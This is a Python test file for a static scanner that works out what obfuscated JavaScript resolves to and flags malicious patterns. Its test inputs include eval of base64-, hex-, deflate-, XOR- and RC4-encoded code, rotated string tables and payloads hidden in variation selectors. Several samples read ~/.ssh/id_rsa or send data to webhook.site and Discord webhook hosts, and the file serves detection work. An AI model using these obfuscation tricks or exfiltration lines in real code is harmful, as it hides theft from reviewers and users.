"""What texts JavaScript puts together come to, without running it: operations, methods, decoders, tables."""

import base64
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.facts.scan.languages.javascript.literals import is_blob, is_spelled, number, unescaped
from pratique.facts.scan.languages.javascript.tables import Table
from pratique.facts.scan.observation import How
from pratique.facts.scan.value import Value
from tests.facts.languages.javascript_seen import labels, only, seen

CODE = "console.log(1)"
DEFLATED = base64.b64encode(zlib.compress(CODE.encode())).decode()


@pytest.mark.parametrize(
    ("expression", "text"),
    [
        ("'a' + 'b' + \"c\"", "abc"),
        ("`a${'b'}c`", "abc"),
        ("'a'.concat('b', 'c')", "abc"),
        ("['a', 'b', 'c'].join('')", "abc"),
        ("['c', 'b', 'a'].reverse().join('')", "abc"),
        ("'cba'.split('').reverse().join('')", "abc"),
        ("[...'cba'].reverse().join('')", "abc"),
        ("'xabcx'.slice(1, -1)", "abc"),
        ("'xabcx'.substring(4, 1)", "abc"),
        ("'xabcx'.substr(-4, 3)", "abc"),
        ("'a#b#c'.split('#').join('')", "abc"),
        ("'a#b#c'.replace(/#/g, '')", "abc"),
        ("'a1b2c3'.replace(/[0-9]/g, '')", "abc"),
        ("'a#b#c'.replaceAll('#', '')", "abc"),
        ("'quire'.replace(/^/, 're')", "require"),
        ("'ABC'.toLowerCase()", "abc"),
        ("' abc '.trim()", "abc"),
        ("'ab'.repeat(2)", "abab"),
        ("'abc'.charAt(1) + 'abc'[2] + 'abc'.at(0)", "bca"),
        ("['a', 'b', 'c'][1] + { x: 'y' }.x", "by"),
        ("'\\x61\\u0062\\u{63}\\143'", "abcc"),
        ("String.fromCharCode(97, 98, 99)", "abc"),
        ("String.fromCharCode.apply(null, [97, 98, 99])", "abc"),
        ("String.fromCharCode(...[97, 98, 99])", "abc"),
        ("[97, 98, 99].map((c) => String.fromCharCode(c)).join('')", "abc"),
        ("[98, 99, 96].map((c) => String.fromCharCode(c ^ 3)).join('')", "a`c"),
        ("'bcd'.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('')", "abc"),
        ("['a', 'b'].reduce((all, each) => all + each, '')", "ab"),
        ("atob('YWJj')", "abc"),
        ("Buffer.from('YWJj', 'base64').toString()", "abc"),
        ("Buffer.from('616263', 'hex').toString('utf8')", "abc"),
        ("Buffer.from([97, 98, 99]).toString()", "abc"),
        ("new Buffer('YWJj', 'base64').toString('ascii')", "abc"),
        ("new TextDecoder().decode(Uint8Array.from([97, 98, 99]))", "abc"),
        ("unescape('%61%62%63')", "abc"),
        ("decodeURIComponent('%61%62%63')", "abc"),
        ("unescape('%u0061bc')", "abc"),
        ("btoa('abc')", "YWJj"),
        ("(97).toString(36) + parseInt('61', 16)", "2p97"),
        ("String(0x10 + 0b1 + 0o7 + (8 >> 1) + (1 << 3) - ~1 * 2)", "40"),
        ("(true ? 'abc' : 'x') || 'y'", "abc"),
        ("1 < 2 && 'abc'", "abc"),
        ("((a, b) => a + b)('ab', 'c')", "abc"),
        ("(function (a) { return a.split('').reverse().join('') })('cba')", "abc"),
        ("f('c') + '' ; function f(x = 'z') { const y = 'ab'; return y + x }", "abc"),
        ("t.b.c[1]; var t = { b: { c: ['x', 'abc'] } }", "abc"),
        ("s; var s = 'a'; s += 'b'; s += 'c'", "abc"),
        ("l.join(''); var l = ['a']; l.push('b'); l.push('c')", "abc"),
        ("(a => b => a + b)('ab')('c')", "abc"),
        ("path.join('a', 'b', 'c'); var path = require('path')", "a/b/c"),
    ],
)
def test_a_text_comes_to_what_it_would_be(expression: str, text: str) -> None:
    first, _, rest = expression.partition(";")
    found = only(f"require('child_process').exec({first});{rest}", "proc.shell")
    assert found.text == f"child_process.exec({text})"


@pytest.mark.parametrize(
    "expression",
    [
        "x + 'b'",
        "Math.random() + 'a'",
        "process.argv[2]",
        "'a'.repeat(1e9)",
        "[1, 2].join(x)",
        "'abc'.replace(/(a+)+$/, 'b')",
        "'a'.padStart(1e9)",
        "f(f); function f(g) { return g(g) }",
        "s; var s = 'a'; for (;;) s += s",
    ],
)
def test_what_is_not_known_or_too_large_is_not_made_up(expression: str) -> None:
    first, _, rest = expression.partition(";")
    assert len(seen(f"require('child_process').exec({first});{rest}").waiting) <= 1


@pytest.mark.parametrize(
    ("text", "label"),
    [
        (f"eval(atob('{base64.b64encode(CODE.encode()).decode()}'))", "decode.base"),
        (f"eval(Buffer.from('{CODE.encode().hex()}', 'hex') + '')", "decode.base"),
        (
            f"eval(require('zlib').inflateSync(Buffer.from('{DEFLATED}', 'base64')).toString())",
            "decode.compress",
        ),
        (f"eval(String.fromCharCode({','.join(str(ord(each)) for each in CODE)}))", "decode.charcodes"),
        (f"eval(unescape('{''.join(f'%{ord(each):02x}' for each in CODE)}'))", "decode.escapes"),
        (f"eval('{''.join(f'{chr(92)}x{ord(each):02x}' for each in CODE)}')", "decode.escapes"),
        (
            f"let o = ''; for (const c of '{CODE}') o += String.fromCharCode(c.charCodeAt(0) ^ k); eval(o)",
            "decode.cipher",
        ),
        ("eval(require('crypto').createDecipheriv('aes', k, v).update(data))", "decode.cipher"),
        ("eval(CryptoJS.AES.decrypt(data, 'key').toString())", "decode.cipher"),
        ("eval(LZString.decompressFromBase64(data))", "decode.compress"),
    ],
)
def test_what_code_went_through_is_known(text: str, label: str) -> None:
    assert label in only(text, "code.exec").inputs


def test_labels_show_once_a_text_is_put_together() -> None:
    assert "net.collector_host" in labels("require('https').get('https://webhook' + '.site/x')")
    assert "read.secret_file" in labels("require('fs').readFileSync(require('os').homedir() + '/.ssh' + '/id_rsa')")


def test_bytes_in_variation_selectors_are_read() -> None:
    hidden = "".join(chr(0xE0100 + ord(each) - 16) for each in "require('child_process').exec('id')")
    (inner, *_) = seen(f"eval(read(`{hidden}`))").waiting
    assert inner.data == b"require('child_process').exec('id')"


def test_what_a_packer_packed_is_unpacked() -> None:
    text = "eval(function(p,a,c,k,e,d){while(c--)p=p;return p}('0.1(\"2\")',62,3,'console|log|x'.split('|'),0,{}))"
    assert [each.data for each in seen(text).waiting] == [b'console.log("x")']


TABLE = (
    "const _0xa=_0xd;function _0xd(i,k){{i=i-0x64;const t=_0xt();let v=t[i];{decode}return v;}}"
    "(function(f,n){{const d=_0xd,t=f();while(!![]){{try{{const s=parseInt(d(0x64{key}))/0x1+-parseInt(d(0x65{key}))/0x2*0x2;"
    "if(s===n)break;else t['push'](t['shift']());}}catch(e){{t['push'](t['shift']());}}}}}}(_0xt,0x1));"
    "require(_0xa(0x66{key}))[_0xa(0x67{key})](_0xa(0x68{key}));"
    "function _0xt(){{const t={texts};_0xt=function(){{return t;}};return _0xt();}}"
)
PARTS = ["7seven", "6six", "child_process", "exec", "id"]
OTHER_ORDER = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/="
USUAL_ORDER = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="


def encoded(text: str) -> str:
    plain = base64.b64encode(text.encode()).decode().rstrip("=")
    return plain.translate(str.maketrans(USUAL_ORDER, OTHER_ORDER))


def enciphered(text: str, key: str) -> str:
    state, swap, out = list(range(256)), 0, []
    for place in range(256):
        swap = (swap + state[place] + ord(key[place % len(key)])) % 256
        state[place], state[swap] = state[swap], state[place]
    one = two = 0
    for each in text:
        one = (one + 1) % 256
        two = (two + state[one]) % 256
        state[one], state[two] = state[two], state[one]
        out.append(chr(ord(each) ^ state[(state[one] + state[two]) % 256]))
    return "".join(out)


@pytest.mark.parametrize("turned", range(5))
def test_a_table_is_turned_until_its_sum_fits(turned: int) -> None:
    texts = PARTS[turned:] + PARTS[:turned]
    assert only(TABLE.format(decode="", key="", texts=texts), "proc.shell").text == "child_process.exec(id)"


def test_the_texts_of_a_table_may_be_encoded_and_enciphered() -> None:
    alphabet = f"const o='{OTHER_ORDER}';"
    texts = [encoded(each) for each in PARTS[2:] + PARTS[:2]]
    assert only(TABLE.format(decode=alphabet, key="", texts=texts), "proc.shell").text == "child_process.exec(id)"
    cipher = alphabet + "s+=String.fromCharCode(v.charCodeAt(q)^r[z]);"
    texts = [encoded(enciphered(each, "k3y!")) for each in PARTS[3:] + PARTS[:3]]
    found = only(TABLE.format(decode=cipher, key=",'k3y!'", texts=texts), "proc.shell")
    assert found.text == "child_process.exec(id)"


def test_a_table_that_is_turned_so_often_is_read() -> None:
    text = (
        "var _0xt=['exec','id','child_process'];"
        "(function(t,n){var f=function(m){while(--m){t['push'](t['shift']());}};f(++n);}(_0xt,0x2));"
        "var _0xd=function(i,k){i=i-0x0;var v=_0xt[i];return v;};require(_0xd('0x0'))[_0xd('0x1')](_0xd('0x2'));"
    )
    assert only(text, "proc.shell").text == "child_process.exec(id)"


def test_a_table_that_is_never_turned_right_says_nothing() -> None:
    assert "proc.shell" not in labels(TABLE.format(decode="", key="", texts=["a", "b", "c", "d", "e"]))


@given(st.lists(st.text(max_size=20), min_size=1, max_size=8), st.integers(), st.text(max_size=8))
def test_any_place_in_a_table_gives_a_text_or_nothing(texts: list[str], place: int, key: str) -> None:
    table = Table(texts, 3, USUAL_ORDER.encode(), cipher=True)
    found = table.fetch([Value(place), Value(key)])
    assert found.text or not 0 <= place - 3 < len(texts) or isinstance(found.constant, str)


@given(st.text())
def test_unescaping_never_fails(text: str) -> None:
    assert isinstance(unescaped(text), str)
    is_spelled(text)
    is_blob(text)


@given(st.text(max_size=40))
def test_a_number_is_a_number_or_nothing(text: str) -> None:
    assert number(text) is None or isinstance(number(text), int | float)


@pytest.mark.parametrize(
    ("text", "how"),
    [
        ("fetch(`https://discord.com/api/webhooks/1/${id}`)", How.LITERAL),
        ("fetch(`https://discord.com/api/webhooks/1/x`)", How.LITERAL),
        ("fetch(`https://dis${'cord'}.com/api/webhooks/1/${id}`)", How.RESOLVED),
        ("fetch(`https://dis\\x63ord.com/api/webhooks/1/${id}`)", How.RESOLVED),
    ],
)
def test_a_template_hides_nothing_that_stands_in_it(text: str, how: How) -> None:
    assert only(text, "net.collector_host").how is how
